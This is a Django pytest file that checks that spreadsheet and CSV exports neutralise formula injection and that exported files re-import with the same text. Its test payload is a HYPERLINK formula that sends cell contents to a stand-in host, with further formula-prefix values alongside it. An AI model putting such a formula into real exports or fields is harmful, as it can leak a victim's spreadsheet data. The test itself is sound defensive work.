"""Exports never turn user text into a formula (issue 13 item 1): the portfolio workbook and the
unit-cost XLSX/CSV write titles and notes as text, and a CSV exported and imported again gives
the same texts back."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from sikt.web.accounts.models import Organization, Role
from sikt.web.unitcosts.models import UnitCostEntry
from tests.web.conftest import login
from tests.web.factories import make_initiative, make_unit_cost, make_user

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://example.org/?d="&B2&C2,"Öppna")'


def _cells(content: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def test_portfolio_workbook_writes_a_formula_like_title_as_text(
    client: Client, organization: Organization
) -> None:
    make_initiative(organization, title=PAYLOAD)
    login(client, make_user(organization, Role.VIEWER))
    cells = _cells(client.get(reverse("reports:portfolio-xlsx")).content)
    title = next(cell for cell in cells if cell.value == PAYLOAD)
    assert title.data_type == "s"
    assert not any(cell.data_type == "f" for cell in cells)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_unit_cost_exports_keep_formula_like_text_inert_and_reimport_it(
    client: Client, organization: Organization, kind: str
) -> None:
    texts = {"notes": PAYLOAD, "quote": "@SUM(A1:A9)", "source_title": "-2+3", "name_en": "+1"}
    make_unit_cost(organization, "farlig", **texts)
    login(client, make_user(organization, Role.ECONOMIST))
    content = client.get(reverse(f"unitcosts:export-{kind}")).content
    if kind == "xlsx":
        cells = _cells(content)
        assert not any(cell.data_type == "f" for cell in cells)
        assert PAYLOAD in [cell.value for cell in cells]
    else:
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        for cell in (c for row in rows for c in row):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    UnitCostEntry.objects.filter(key="farlig").update(notes="ändrad", quote="", source_title="")
    upload = io.BytesIO(content)
    upload.name = f"export.{kind}"
    response = client.post(reverse("unitcosts:import"), {"file": upload})
    assert response.status_code == 302
    entry = UnitCostEntry.objects.get(organization=organization, key="farlig")
    assert {name: getattr(entry, name) for name in texts} == texts
